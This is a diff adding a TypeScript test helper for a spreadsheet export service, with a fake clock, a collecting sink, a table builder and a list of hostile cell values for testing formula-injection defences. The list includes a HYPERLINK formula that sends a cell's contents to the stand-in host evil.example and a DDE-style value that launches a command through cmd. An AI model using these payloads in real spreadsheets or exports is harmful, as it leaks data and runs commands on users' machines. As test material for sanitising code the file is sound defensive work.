@@ -1,0 +1,49 @@
+import type { Sink } from '../../src/services/exports/sink.ts';
+import type { ExportTable, TableColumn } from '../../src/services/exports/table.ts';
+import { createCompanyClock } from '../../src/services/input/companyClock.ts';
+import { clean } from '../../src/tui/kit/clean.ts';
+
+export const tools = {
+  clock: createCompanyClock('Europe/Paris', () => new Date('2026-11-23T12:00:00Z')),
+  clean,
+  onRows: () => undefined,
+};
+
+/** A sink that keeps what it is given. */
+export function collected(): Sink & { readonly bytes: () => Buffer } {
+  const pieces: Uint8Array[] = [];
+  return {
+    write: async (bytes) => void pieces.push(bytes),
+    bytes: () => Buffer.concat(pieces),
+  };
+}
+
+export type Row = readonly (string | number | Date | null)[];
+
+/** A table of rows as they stand, with columns of these kinds. */
+export function tableOf(kinds: readonly TableColumn<Row>['kind'][], rows: readonly Row[]): ExportTable<Row> {
+  return {
+    title: 'Clients',
+    columns: kinds.map((kind, at) => ({ heading: `C${at}`, kind, value: (row) => row[at] ?? null })),
+    pages: (async function* () {
+      yield rows;
+    })(),
+  };
+}
+
+/** What somebody might put into a field to have it run in a colleague's spreadsheet. */
+export const HOSTILE = [
+  '=1+1',
+  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+  '+33 1 22 33 44 55',
+  "-2+3+cmd|' /C calc'!A0",
+  '@SUM(1+1)',
+  '\t=1+1',
+  '\r=1+1',
+  ' =1+1',
+  '＝1+1',
+  '"quoted", with; commas',
+  'two\nlines',
+  '\u001b[31mred\u202eder',
+  '_x0041_ <&> "x"',
+];
